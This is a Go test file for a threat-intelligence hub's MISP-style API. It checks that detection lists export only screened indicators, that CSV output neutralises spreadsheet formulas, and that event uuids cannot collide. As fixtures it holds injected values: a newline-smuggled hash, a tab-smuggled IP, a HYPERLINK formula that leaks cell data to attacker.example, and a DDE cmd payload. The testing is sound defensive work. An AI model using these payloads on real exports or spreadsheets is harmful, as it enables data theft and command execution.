package hub_test

import (
	"strings"
	"testing"

	"github.com/hdnetwork/hdn/internal/hub"
	"github.com/hdnetwork/hdn/internal/hub/hubtest"
	"github.com/hdnetwork/hdn/internal/policy"
)

// TestMISPDetectionListsHoldIndicatorsOnly: the text and hashes lists of
// events/restSearch, which feed firewalls and proxies, hold the hub's
// indicators only — not an event's context attributes, which no check
// screened (0.0.0.0/0, "com", google.com, a hash with lines of its own).
func TestMISPDetectionListsHoldIndicatorsOnly(t *testing.T) {
	h := hubtest.Start(t, hub.Config{Warninglists: shippedWarninglists(t)})
	a := h.Org("Hospital A", policy.Member, "")
	b := h.Org("Hospital B", policy.Member, "")
	ka, kb := h.Key(a, policy.Analyst), h.Key(b, policy.Analyst)
	ev := map[string]any{"Event": map[string]any{
		"info": "campaign",
		"Tag":  []any{map[string]any{"name": "tlp:clear"}},
		"Attribute": []any{
			map[string]any{"type": "domain", "value": "c2.bad-actor-zone.net", "to_ids": true},
			map[string]any{"type": "md5", "value": "0cc175b9c0f1b6a831c399e269772661", "to_ids": true},
			map[string]any{"type": "domain", "value": "google.com", "to_ids": false},
			map[string]any{"type": "ip-dst", "value": "0.0.0.0/0", "to_ids": true},
			map[string]any{"type": "domain", "value": "com", "to_ids": true},
			map[string]any{"type": "md5", "value": "d41d8cd98f00b204e9800998ecf8427e\nINJECTED LINE\n#", "to_ids": false},
			map[string]any{"type": "ip-dst", "value": "10.0.0.1\t* ANY", "to_ids": false},
		},
	}}
	if r := mispCall(h, "POST", "/events/add", ka, ev); r.Status != 200 {
		t.Fatalf("events/add: %d %s", r.Status, r.Body)
	}
	list := func(q string) []string {
		t.Helper()
		r := h.DoWith("POST", "/events/restSearch", map[string]string{"Authorization": kb, "Content-Type": "application/json"}, q)
		if r.Status != 200 {
			t.Fatalf("%s: %d %s", q, r.Status, r.Body)
		}
		return strings.Split(strings.TrimSpace(string(r.Body)), "\n")
	}
	if got := list(`{"returnFormat":"text"}`); len(got) != 2 || !strings.Contains(strings.Join(got, " "), "c2.bad-actor-zone.net") {
		t.Errorf("text list %q, want the two indicators only", got)
	}
	if got := list(`{"returnFormat":"hashes"}`); len(got) != 1 || got[0] != "0cc175b9c0f1b6a831c399e269772661" {
		t.Errorf("hashes list %q, want the one indicator's hash", got)
	}
}

// TestMISPCSVDefusesFormulas: MISP's csv, like the native CSV export, gives
// a cell a spreadsheet would read as a formula a leading apostrophe.
func TestMISPCSVDefusesFormulas(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	a := h.Org("Hospital A", policy.Member, "")
	b := h.Org("Hospital B", policy.Member, "")
	ka, kb := h.Key(a, policy.Analyst), h.Key(b, policy.Analyst)
	for _, it := range []map[string]any{
		{"type": "domain", "value": "formula-c2.example.org", "tlp": "green", "description": `=HYPERLINK("http://attacker.example/?leak="&A1,"Details")`},
		{"type": "email", "value": `=cmd|'/Ccalc'!A0@evil.example.org`, "tlp": "green"},
	} {
		if res := submit(t, h, ka, it); res[0].Status != "created" {
			t.Fatalf("submit %v: %+v", it, res[0])
		}
	}
	r := h.DoWith("POST", "/attributes/restSearch", map[string]string{"Authorization": kb}, `{"returnFormat":"csv"}`)
	body := string(r.Body)
	if r.Status != 200 || !strings.Contains(body, `"'=HYPERLINK(`) || !strings.Contains(body, `"'=cmd|`) {
		t.Errorf("MISP csv: %d\n%s", r.Status, body)
	}
	if strings.Contains(body, `"=HYPERLINK(`) || strings.Contains(body, `"=cmd|`) {
		t.Errorf("MISP csv carries a live formula:\n%s", body)
	}
}

// TestMISPEventCannotTakeAVirtualEventsUUID: the uuid of an organisation's
// virtual event (its indicators without a report) is the hub's: a member's
// event of that uuid is refused, so that no search or feed shows two events
// of one uuid (a feed with two was refused whole, for everyone).
func TestMISPEventCannotTakeAVirtualEventsUUID(t *testing.T) {
	h := hubtest.Start(t, hub.Config{})
	a := h.Org("Hospital A", policy.Member, "")
	b := h.Org("Hospital B", policy.Member, "")
	ka, kb := h.Key(a, policy.Analyst), h.Key(b, policy.Analyst)
	if res := submit(t, h, kb, map[string]any{"type": "domain", "value": "b-c2.bad-actor-zone.net", "tlp": "green"}); res[0].Status != "created" {
		t.Fatalf("submit: %+v", res[0])
	}
	var events []struct{ UUID, Info string }
	r := mispCall(h, "POST", "/events/index", ka, map[string]any{})
	r.JSON(t, &events)
	virtual := ""
	for _, ev := range events {
		if strings.Contains(ev.Info, "Hospital B") {
			virtual = ev.UUID
		}
	}
	if virtual == "" {
		t.Fatalf("no virtual event of Hospital B in %s", r.Body)
	}
	r = mispCall(h, "POST", "/events/add", ka, map[string]any{"Event": map[string]any{"info": "Indicators shared by Hospital B, without a report", "uuid": virtual,
		"Attribute": []any{map[string]any{"type": "domain", "value": "a-c2.bad-actor-zone.net"}}}})
	if r.Status != 400 || !strings.Contains(string(r.Body), "is the hub's own") {
		t.Errorf("an event with Hospital B's virtual event's uuid: %d %s, want 400", r.Status, r.Body)
	}
}
